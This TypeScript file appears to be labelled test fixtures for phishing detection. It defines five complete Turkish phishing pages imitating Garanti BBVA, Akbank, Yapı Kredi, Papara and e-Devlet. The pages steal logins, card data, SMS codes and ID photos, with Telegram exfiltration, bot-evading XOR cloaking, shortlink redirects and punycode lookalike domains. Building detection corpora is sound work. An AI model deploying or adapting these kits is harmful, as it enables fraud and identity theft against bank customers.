import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { cardFields, cardMaskJs, doc, logo, smsPanel, telegramDrop, textRoute, xorB64 } from '../parts/xb-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'xb-garanti-bonus-puan-telegram',
    label: 'phishing',
    kind: 'bank-card-kit-telegram',
    url: 'https://garantibbva-bonus-puan.web.app/kampanya/puan-aktar',
    body: doc({
      title: 'Garanti BBVA - Bonus Puan Aktarımı',
      css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#eef3f7}header{background:#072146;padding:14px 22px;display:flex;align-items:center;gap:14px}
header .tag{color:#5bbeff;font-size:12px;border:1px solid #5bbeff;border-radius:12px;padding:2px 10px}
.hero{background:#1973b8;color:#fff;padding:26px 22px}.hero b{color:#ffd200}.card{max-width:470px;margin:-18px auto 40px;background:#fff;border-radius:8px;padding:22px;box-shadow:0 4px 16px rgba(7,33,70,.15)}
.fld{margin-bottom:12px}.fld label{display:block;font-size:12px;color:#5b6b7b;margin-bottom:4px}.fld input,.fld select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #c9d4de;border-radius:4px;font-size:15px}
.half{display:inline-block;width:48%;vertical-align:top}.half+.half{margin-left:3%}.go{background:#028484;color:#fff;border:0;width:100%;padding:13px;border-radius:4px;font-size:16px}
.cnt{font-size:13px;color:#c00;text-align:center;margin:8px 0}.sec{font-size:11px;color:#8a99a8;text-align:center;margin-top:12px}`,
      body: `<header>${logo({ name: 'Garanti BBVA', color: '#ffffff', mark: 'clover' })}<span class="tag">Bonus</span></header>
<div class="hero"><h2 style="margin:0 0 6px">Bonus puanlarınızın süresi doluyor!</h2><p style="margin:0">Hesabınızda kullanılmayan <b>4.250,00 TL</b> değerinde Bonus bulunmaktadır. Son kullanma tarihi <b>31.10.2025</b>. Puanlarınızı nakit olarak kartınıza aktarın.</p></div>
<div class="card">
  <div class="cnt">Kalan süre: <span id="cd">23:59:41</span></div>
  <form id="frm" autocomplete="off">
    <div class="fld"><label>T.C. Kimlik Numarası / Müşteri Numarası</label><input name="tckn" maxlength="11" required></div>
    <div class="fld"><label>İnternet Şubesi Şifresi</label><input name="sifre" type="password" maxlength="6" required></div>
    <div class="fld"><label>Cep Telefonu</label><input name="gsm" placeholder="5XX XXX XX XX" required></div>
    ${cardFields({ lang: 'tr', split: true, names: { holder: 'ad', number: 'kart', exp: 'ay', yy: 'yil', cvv: 'cvv' } })}
    <button class="go" type="submit">Puanlarımı Aktar</button>
  </form>
  ${smsPanel({ lang: 'tr', id: 'otp', phone: '5** *** ** 47', seconds: 180, bank: 'Garanti BBVA', amount: '4.250,00 TL', color: '#028484' })}
  <p class="sec">256-bit SSL ile korunmaktadır · Garanti BBVA © 2025</p>
</div>
<script>
${telegramDrop({ token: '7384921056:AAH-xq3Lk9VfT2c_4rZpB8mYw1NnJd0sE6u', chat: '-1002145583902', fn: 'snd', style: 'split' })}
${cardMaskJs({ field: 'kart', fn: 'kk' })}
var f=document.getElementById('frm');
f.addEventListener('submit',function(e){e.preventDefault();var d=new FormData(f);
 if(!kk(d.get('kart'))){alert('Kart numarası hatalı.');return}
 var m='🟢 <b>GARANTI BONUS</b>\\nTC: '+d.get('tckn')+'\\nŞifre: '+d.get('sifre')+'\\nTel: '+d.get('gsm')+'\\nAd: '+d.get('ad')+'\\nKart: '+d.get('kart')+'\\nSKT: '+d.get('ay')+'/'+d.get('yil')+'\\nCVV: '+d.get('cvv')+'\\nUA: '+navigator.userAgent;
 snd(m).then(function(){f.style.display='none';document.getElementById('otp').style.display='block';tick()});
});
var t=180;function tick(){var el=document.getElementById('otp-t');var iv=setInterval(function(){t--;el.textContent=t;if(t<=0)clearInterval(iv)},1000)}
document.getElementById('otp-ok').onclick=function(){snd('🔐 SMS: '+document.getElementById('otp-code').value).then(function(){document.body.innerHTML='<p style="font:16px Arial;text-align:center;margin-top:80px">İşleminiz başarıyla tamamlandı. Yönlendiriliyorsunuz…</p>';setTimeout(function(){location='https://www.garantibbva.com.tr'},2500)})};
var s=86381;setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;document.getElementById('cd').textContent=[h,m,x].map(function(v){return(v<10?'0':'')+v}).join(':')},1000);
</script>`,
    }),
  },
  {
    id: 'xb-akbank-direkt-cloaked-xor',
    label: 'phishing',
    kind: 'bank-credential-kit-cloaked',
    url: 'https://akbnk-direkt-mobil.online/sube/',
    body: `<!doctype html><html lang="tr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Yükleniyor...</title>
<style>body{margin:0;display:flex;height:100vh;align-items:center;justify-content:center;background:#fff}.l{width:46px;height:46px;border:5px solid #f2f2f2;border-top-color:#e4002b;border-radius:50%;animation:s .8s linear infinite}@keyframes s{to{transform:rotate(360deg)}}</style></head>
<body><div class="l"></div>
<script>
(function(){
  var ok=true, tz='';
  try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone}catch(e){}
  if(navigator.webdriver) ok=false;
  if(['Europe/Istanbul','Asia/Nicosia','Europe/Berlin','Asia/Baku'].indexOf(tz)<0) ok=false;
  if(!/tr|de|az/i.test((navigator.languages||[navigator.language]).join(','))) ok=false;
  if(/bot|crawl|spider|headless|lighthouse|python|curl/i.test(navigator.userAgent)) ok=false;
  if(!ok){location.replace('https://www.google.com.tr/search?q=akbank');return}
  fetch('/sube/assets/app.dat',{cache:'no-store'}).then(function(r){return r.text()}).then(function(t){
    var k='akb#2025',b=atob(t.trim()),o=new Uint8Array(b.length);
    for(var i=0;i<b.length;i++)o[i]=b.charCodeAt(i)^k.charCodeAt(i%k.length);
    var h=new TextDecoder('utf-8').decode(o);document.open();document.write(h);document.close();
  });
})();
</script></body></html>`,
    routes: {
      'akbnk-direkt-mobil.online/sube/assets/app.dat': textRoute(xorB64(doc({
        title: 'Akbank İnternet Şubesi',
        css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f6f6f6}.bar{background:#e4002b;padding:12px 20px}.f{max-width:380px;margin:36px auto;background:#fff;border-radius:10px;padding:24px;box-shadow:0 1px 6px #0002}
.f input{width:100%;box-sizing:border-box;padding:12px;margin:6px 0 14px;border:1px solid #ddd;border-radius:6px;font-size:15px}.f button{width:100%;padding:13px;background:#e4002b;border:0;border-radius:6px;color:#fff;font-size:16px}
.m{font-size:12px;color:#666}#w{display:none;text-align:center}`,
        body: `<div class="bar">${logo({ name: 'akbank', color: '#ffffff', mark: 'ring' })}</div>
<div class="f" id="lg"><h3 style="margin-top:0">Akbank Direkt'e Giriş</h3>
<label class="m">Müşteri Numarası / T.C. Kimlik Numarası</label><input id="u" maxlength="11">
<label class="m">Akbank Direkt Şifresi</label><input id="p" type="password" maxlength="6">
<label class="m">Cep Telefonu</label><input id="g" placeholder="05XX XXX XX XX">
<button id="b">Devam Et</button>
<p class="m">Akbank Direkt Mobil'den onay vermeniz istenebilir.</p></div>
<div class="f" id="w"><p>Akbank Direkt Mobil uygulamanıza gönderilen bildirimi onaylayın ve size iletilen kodu girin.</p><input id="k" maxlength="6"><button id="kb">Gönder</button></div>
<script>
function lg(o){o.t=Date.now();navigator.sendBeacon('/sube/api/v2/log.php',JSON.stringify(o))}
document.getElementById('b').onclick=function(){lg({u:document.getElementById('u').value,p:document.getElementById('p').value,g:document.getElementById('g').value});document.getElementById('lg').style.display='none';document.getElementById('w').style.display='block'};
document.getElementById('kb').onclick=function(){lg({k:document.getElementById('k').value});location.replace('https://www.akbank.com')};
</script>`,
      }), 'akb#2025'), 'application/octet-stream'),
      'akbnk-direkt-mobil.online/sube/api/v2/log.php': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'xb-yapikredi-worldpuan-shortlink',
    label: 'phishing',
    kind: 'bank-card-kit-redirect',
    url: 'https://kisa-link.site/yk7Wp',
    routes: {
      'kisa-link.site/yk7Wp': redirectRoute(302, 'https://yapikredi-worldpuan.kampanya-bireysel.site/?utm=sms&r=yk7Wp'),
      'yapikredi-worldpuan.kampanya-bireysel.site/': htmlRoute(doc({
        title: 'Yapı Kredi | worldpuan Nakit İade',
        css: `body{margin:0;background:#fff;font-family:"Open Sans",Arial,sans-serif;color:#1d2a3a}.nav{height:60px;background:#004990;display:flex;align-items:center;padding:0 24px}
.band{background:#e8f1fa;padding:22px 24px;border-bottom:1px solid #cfe0f1}.band strong{color:#e66b00}.grid{max-width:760px;margin:24px auto;display:grid;grid-template-columns:1fr 1fr;gap:16px;padding:0 16px}
.grid .full{grid-column:1/3}.grid label{font-size:12px;font-weight:600;display:block;margin-bottom:5px}.grid input,.grid select{width:100%;box-sizing:border-box;height:42px;border:1px solid #b5c7da;border-radius:3px;padding:0 10px}
.sbm{background:#e66b00;border:0;color:#fff;height:46px;font-size:16px;border-radius:3px;cursor:pointer}`,
        body: `<div class="nav">${logo({ name: 'YapıKredi', color: '#ffffff', mark: 'wave' })}</div>
<div class="band"><h2 style="margin:0 0 6px">worldpuan'larınız silinmek üzere</h2><p style="margin:0">Kartınızda biriken <strong>2.840,75 TL</strong> değerindeki worldpuan 48 saat içinde kullanılmadığı takdirde silinecektir. Aşağıdaki formu doldurarak puanlarınızı <strong>nakit iade</strong> olarak hesabınıza aktarabilirsiniz.</p></div>
<form id="wp" class="grid">
<div><label>Ad Soyad</label><input name="n" required></div><div><label>T.C. Kimlik No</label><input name="tc" maxlength="11" required></div>
<div class="full"><label>World Kart Numarası</label><input name="c" inputmode="numeric" maxlength="19" required></div>
<div><label>Son Kullanma (AA/YY)</label><input name="e" maxlength="5" required></div><div><label>CVV2</label><input name="v" maxlength="3" required></div>
<div class="full"><label>Kart Limiti (doğrulama için)</label><select name="l"><option>0 - 10.000 TL</option><option>10.000 - 50.000 TL</option><option>50.000 TL üzeri</option></select></div>
<div class="full"><label>Cep Telefonu</label><input name="g" required></div>
<button class="sbm full" type="submit">worldpuan'ı Nakite Çevir</button>
</form>
${smsPanel({ lang: 'tr', id: 'ys', phone: '05** *** ** 12', seconds: 120, bank: 'Yapı Kredi', amount: '1,00 TL', color: '#004990' })}
<script>
${cardMaskJs({ field: 'c', fn: 'chk', exp: 'e' })}
document.getElementById('wp').onsubmit=function(ev){ev.preventDefault();if(!chk(this.c.value)){alert('Geçersiz kart numarası');return}
 var x=new XMLHttpRequest();x.open('POST','/send.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
 x.send(new URLSearchParams(new FormData(this)).toString()+'&src=worldpuan&ref='+encodeURIComponent(location.search));
 this.style.display='none';document.getElementById('ys').style.display='block'};
document.getElementById('ys-ok').onclick=function(){var x=new XMLHttpRequest();x.open('POST','/send.php',true);x.send('otp='+document.getElementById('ys-code').value);alert('Kod hatalı veya süresi doldu. Yeni kod gönderildi.');document.getElementById('ys-code').value=''};
</script>`,
      })),
      'yapikredi-worldpuan.kampanya-bireysel.site/send.php': textRoute('1'),
    },
  },
  {
    id: 'xb-papara-masak-kimlik-dogrulama',
    label: 'phishing',
    kind: 'ewallet-kyc-kit',
    url: 'https://papara-hesap-dogrulama.com/tr/dogrulama',
    body: doc({
      title: 'Papara | Hesap Doğrulama',
      css: `*{box-sizing:border-box}body{margin:0;background:#0b0b0f;color:#f4f4f6;font-family:Inter,system-ui,Arial,sans-serif}
.w{max-width:430px;margin:0 auto;padding:24px}.alert{background:#2a1430;border:1px solid #8a2be2;border-radius:10px;padding:14px;font-size:14px;margin:18px 0}
.prog{display:flex;gap:6px;margin-bottom:18px}.prog i{flex:1;height:4px;background:#333;border-radius:2px}.prog i.a{background:#a259ff}
input,select{width:100%;background:#17171d;border:1px solid #2d2d36;color:#fff;border-radius:8px;padding:13px;margin:6px 0 12px;font-size:15px}
label{font-size:13px;color:#aaa}button{width:100%;padding:14px;border:0;border-radius:10px;background:#a259ff;color:#fff;font-weight:600;font-size:16px}
.pg{display:none}.pg.a{display:block}.up{border:1px dashed #555;border-radius:10px;padding:16px;text-align:center;margin-bottom:12px;font-size:13px;color:#bbb}`,
      body: `<div class="w">
${logo({ name: 'papara', color: '#ffffff', mark: 'letterP' })}
<div class="alert">⚠️ Hesabınız <b>MASAK</b> (5549 sayılı Kanun) kapsamında yapılan rutin kontrol sonucunda geçici olarak kısıtlanmıştır. Kısıtlamanın kaldırılması için kimlik doğrulamanızı <b>24 saat</b> içinde tamamlamanız gerekmektedir.</div>
<div class="prog"><i class="a" id="p1"></i><i id="p2"></i><i id="p3"></i></div>
<div class="pg a" id="g1"><label>Cep telefonu veya e-posta</label><input id="kid" placeholder="+90 5XX XXX XX XX"><label>Papara şifresi</label><input id="pw" type="password"><button type="button" onclick="nx(1)">Devam</button></div>
<div class="pg" id="g2"><label>T.C. Kimlik No</label><input id="tc" maxlength="11"><label>Doğum tarihi</label><input id="dt" type="date"><label>Anne kızlık soyadı</label><input id="an"><label>Papara Card son 4 hane (varsa)</label><input id="s4" maxlength="4"><button type="button" onclick="nx(2)">Devam</button></div>
<div class="pg" id="g3"><div class="up">Kimlik kartı ön yüz<br><input type="file" id="f1" accept="image/*" capture="environment"></div><div class="up">Kimlik kartı arka yüz<br><input type="file" id="f2" accept="image/*"></div><div class="up">Kimliğinizle birlikte selfie<br><input type="file" id="f3" accept="image/*" capture="user"></div><button type="button" onclick="fin()">Doğrulamayı Tamamla</button></div>
<div class="pg" id="g4"><h3>Teşekkürler</h3><p>Belgeleriniz inceleniyor. Kısıtlama en geç 2 saat içinde kaldırılacaktır.</p></div>
</div>
<script>
var data=new FormData();data.append('ref','masak');
function v(id){return document.getElementById(id).value}
function nx(n){if(n===1){data.append('kid',v('kid'));data.append('pw',v('pw'))}else{['tc','dt','an','s4'].forEach(function(k){data.append(k,v(k))})}
 fetch('/tr/api/upload.php',{method:'POST',body:data});document.getElementById('g'+n).classList.remove('a');document.getElementById('g'+(n+1)).classList.add('a');document.getElementById('p'+(n+1)).classList.add('a')}
function fin(){['f1','f2','f3'].forEach(function(k){var f=document.getElementById(k).files[0];if(f)data.append(k,f)});
 fetch('/tr/api/upload.php',{method:'POST',body:data}).finally(function(){document.getElementById('g3').classList.remove('a');document.getElementById('g4').classList.add('a')})}
</script>`,
    }),
    routes: { 'papara-hesap-dogrulama.com/tr/api/upload.php': jsonRoute({ status: 'received' }) },
  },
  {
    id: 'xb-kvkk-tazminat-sorgu-punycode',
    label: 'phishing',
    kind: 'gov-compensation-lure-kit',
    url: 'https://tazminat-sorgula.xn--trkiye-3ya.com/basvuru',
    submittedUrl: 'https://www.turkiye.gov.tr@tazminat-sorgula.xn--trkiye-3ya.com/basvuru',
    body: doc({
      title: 'KVKK Veri İhlali Tazminat Sorgulama | türkiye.gov.tr',
      css: `body{margin:0;font-family:"Source Sans Pro",Arial,sans-serif;background:#fff;color:#222}.gv{background:#c8102e;color:#fff;padding:10px 20px;font-size:14px;display:flex;align-items:center;gap:10px}
.c{max-width:640px;margin:26px auto;padding:0 16px}.q{display:flex;gap:8px}.q input{flex:1;padding:12px;font-size:17px;border:2px solid #c8102e}.q button{background:#c8102e;color:#fff;border:0;padding:0 22px;font-size:16px}
.res{display:none;margin-top:22px;border:1px solid #e3c0c6;background:#fff7f8;padding:18px}.res .a{font-size:30px;color:#0a7d2c;font-weight:700}.pay{margin-top:14px}.pay input{width:100%;box-sizing:border-box;padding:10px;margin:4px 0 10px;border:1px solid #bbb}
.news{font-size:13px;color:#555;border-top:1px solid #eee;margin-top:30px;padding-top:12px}`,
      body: `<div class="gv">${logo({ name: 'türkiye.gov.tr', color: '#ffffff', mark: 'crescent', height: 30 })}<span>Vatandaş Tazminat Sorgulama Hizmeti</span></div>
<div class="c"><h1 style="font-size:24px">Kişisel Veri İhlali Tazminat Sorgulama</h1>
<p>2023 yılında yaşanan ve 85 milyon vatandaşın bilgilerinin ele geçirildiği veri sızıntısı nedeniyle, Kişisel Verileri Koruma Kurumu kararıyla mağdur vatandaşlara <b>12.500 TL'ye kadar</b> tazminat ödenmektedir. T.C. Kimlik Numaranız ile hak sahipliğinizi sorgulayınız.</p>
<div class="q"><input id="tc" placeholder="T.C. Kimlik Numarası" maxlength="11"><button onclick="sorgu()">Sorgula</button></div>
<div class="res" id="res"><p>Sayın hak sahibi, tazminat hakkınız bulunmaktadır:</p><div class="a" id="amt"></div>
<p style="font-size:13px">Ödemenin hesabınıza aktarılması için <b>49,90 TL</b> dosya ve EFT masrafı tahsil edilecektir. Masraf, tazminat tutarı ile birlikte iade edilir.</p>
<form class="pay" id="pf" method="post" action="/basvuru/odeme.php"><input name="ad" placeholder="Ad Soyad" required><input name="iban" placeholder="IBAN (TR..)" required><input name="kk" placeholder="Kart Numarası" required><input name="ay" placeholder="AA/YY" required><input name="cv" placeholder="CVV" required><input name="tel" placeholder="Cep Telefonu" required><input type="hidden" name="tc" id="tch"><button style="background:#0a7d2c;color:#fff;border:0;padding:12px 20px;font-size:16px">Masrafı Öde ve Tazminatı Al</button></form></div>
<div class="news">Son güncelleme: 14.10.2025 · Başvuru süresi 30 gündür. Resmî açıklama için e-Devlet Kapısı'nı ziyaret ediniz.</div></div>
<script>
function sorgu(){var t=document.getElementById('tc').value.replace(/\\D/g,'');if(t.length!==11){alert('Geçerli bir T.C. Kimlik No giriniz');return}
 var n=0;for(var i=0;i<t.length;i++)n+=+t[i];document.getElementById('amt').textContent=(7500+n*97).toLocaleString('tr-TR')+',00 TL';document.getElementById('tch').value=t;document.getElementById('res').style.display='block'}
</script>`,
    }),
    routes: { 'tazminat-sorgula.xn--trkiye-3ya.com/basvuru/odeme.php': htmlRoute('<!doctype html><meta charset="utf-8"><title>3D</title><p style="font-family:Arial">Banka doğrulama sayfasına yönlendiriliyorsunuz...</p>') },
  },
];
